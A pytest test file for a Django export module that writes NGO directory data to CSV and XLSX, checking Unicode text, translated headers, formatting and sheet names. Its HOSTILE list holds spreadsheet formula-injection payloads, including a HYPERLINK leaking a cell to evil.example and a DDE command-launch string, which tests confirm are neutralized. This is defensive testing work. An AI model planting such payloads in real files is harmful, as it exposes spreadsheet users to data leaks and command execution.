import csv
import datetime
import io
import zoneinfo
from decimal import Decimal

import pytest
from django.utils import translation
from django.utils.translation import gettext_lazy as _
from openpyxl import load_workbook

from birge.orgs.directory.exports import sheet_title, write_csv, write_xlsx

COLUMNS = [("name", _("name")), ("country", _("country")), ("themes", _("thematic areas"))]

ROWS = [
    {"name": "Общественное объединение «Ак Жол»", "country": "Кыргызстан", "themes": ["экология", "вода"]},
    {"name": "Ҷамъияти ҷамъиятии «Ҳамдилӣ»", "country": "Тоҷикистон", "themes": []},
    {"name": "Gənclər Təşəbbüsləri İctimai Birliyi", "country": "Azərbaycan", "themes": ["gənclər"]},
    {"name": "Қазақстан әйелдер қоры", "country": "Қазақстан", "themes": ("әйелдер",)},
]

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes, title: str | None = None) -> list[list]:
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook[title] if title else workbook.active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_csv_round_trip_keeps_cyrillic_tajik_and_azerbaijani_letters():
    table = read_csv(write_csv(COLUMNS, ROWS))
    assert table[0] == ["name", "country", "thematic areas"]
    assert table[1] == ["Общественное объединение «Ак Жол»", "Кыргызстан", "экология; вода"]
    assert table[2] == ["Ҷамъияти ҷамъиятии «Ҳамдилӣ»", "Тоҷикистон", ""]
    assert table[3] == ["Gənclər Təşəbbüsləri İctimai Birliyi", "Azərbaycan", "gənclər"]
    assert table[4] == ["Қазақстан әйелдер қоры", "Қазақстан", "әйелдер"]


def test_xlsx_round_trip_keeps_the_text_and_names_the_sheet():
    data = write_xlsx(COLUMNS, ROWS, title="Организации")
    table = read_xlsx(data, "Организации")
    assert table[0] == ["name", "country", "thematic areas"]
    assert table[2] == ["Ҷамъияти ҷамъиятии «Ҳамдилӣ»", "Тоҷикистон", None]
    assert table[3] == ["Gənclər Təşəbbüsləri İctimai Birliyi", "Azərbaycan", "gənclər"]
    assert table[4] == ["Қазақстан әйелдер қоры", "Қазақстан", "әйелдер"]


def test_lazy_labels_are_translated_in_the_language_active_when_written():
    with translation.override("ru"):
        expected = str(_("name"))
        csv_header = read_csv(write_csv([("name", _("name"))], []))[0]
        xlsx_header = read_xlsx(write_xlsx([("name", _("name"))], []))[0]
    assert expected != "name"  # the Russian catalog has it
    assert csv_header == xlsx_header == [expected]


def test_xlsx_header_is_bold_frozen_and_columns_have_sensible_widths():
    rows = [{"name": "x" * 500, "country": "KZ", "themes": "a"}]
    sheet = load_workbook(io.BytesIO(write_xlsx(COLUMNS, rows, title="Export"))).active
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths[0] == 60  # capped, however long the text
    assert 8 <= widths[1] <= 12  # the short column still fits its header ("country")
    assert widths[2] == len("thematic areas") + 2


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_injection_is_neutralized_in_csv(value):
    cell = read_csv(write_csv(COLUMNS, [{"name": value}]))[1][0]
    assert cell == "'" + value


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_injection_is_neutralized_in_xlsx(value):
    workbook = load_workbook(io.BytesIO(write_xlsx(COLUMNS, [{"name": value}])))
    cell = workbook.active["A2"]
    assert cell.data_type == "s"  # text, not a formula
    # Some XML readers turn a bare carriage return into a line feed (openpyxl's own does; with lxml
    # installed it keeps it); the apostrophe in front is what matters.
    assert cell.value in ("'" + value, "'" + value.replace("\r", "\n"))


def test_harmless_text_and_numbers_are_left_alone():
    rows = [{"name": "Equal rights = equal pay", "country": -5, "themes": "a-b"}]
    assert read_csv(write_csv(COLUMNS, rows))[1] == ["Equal rights = equal pay", "-5", "a-b"]
    assert read_xlsx(write_xlsx(COLUMNS, rows))[1] == ["Equal rights = equal pay", -5, "a-b"]


def test_empty_rows_give_a_header_only_file():
    assert read_csv(write_csv(COLUMNS, [])) == [["name", "country", "thematic areas"]]
    assert read_xlsx(write_xlsx(COLUMNS, iter([]))) == [["name", "country", "thematic areas"]]


def test_missing_keys_and_none_give_empty_cells():
    rows = [{"name": None}, {"name": "next"}]
    assert read_csv(write_csv(COLUMNS, rows))[1:] == [["", "", ""], ["next", "", ""]]
    # The empty row keeps its place: the next one is still the third row of the sheet.
    assert read_xlsx(write_xlsx(COLUMNS, rows))[1:] == [[None, None, None], ["next", None, None]]


def test_dates_numbers_and_lazy_values():
    almaty = zoneinfo.ZoneInfo("Asia/Almaty")
    columns = [("founded", "founded"), ("verified", "verified"), ("budget", "budget"), ("kind", "kind")]
    row = {
        "founded": datetime.date(2004, 5, 17),
        "verified": datetime.datetime(2026, 3, 1, 9, 30, tzinfo=almaty),
        "budget": Decimal("1500.50"),
        "kind": _("country"),
    }
    assert read_csv(write_csv(columns, [row]))[1] == [
        "2004-05-17",
        row["verified"].isoformat(),
        "1500.50",
        "country",
    ]
    founded, verified, budget, kind = read_xlsx(write_xlsx(columns, [row]))[1]
    assert founded.date() == datetime.date(2004, 5, 17)
    assert verified.tzinfo is None  # Excel has no time zones
    assert (budget, kind) == (1500.5, "country")


def test_control_characters_are_dropped_from_xlsx_instead_of_failing():
    rows = [{"name": "Ak\x00 Zhol\x0b", "country": "KG"}]
    assert read_xlsx(write_xlsx(COLUMNS, rows))[1][0] == "Ak Zhol"


def test_rows_are_consumed_once_even_beyond_the_width_sample():
    rows = ({"name": f"org {i}"} for i in range(450))
    table = read_xlsx(write_xlsx(COLUMNS, rows))
    assert len(table) == 451 and table[-1][0] == "org 449"


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Organizations", "Organizations"),
        ("a/b:c*d?[e]\\f", "a b c d  e  f"),
        ("", "Sheet1"),
        ("x" * 40, "x" * 31),
    ],
)
def test_sheet_titles_are_made_acceptable_to_excel(title, expected):
    assert sheet_title(title) == expected
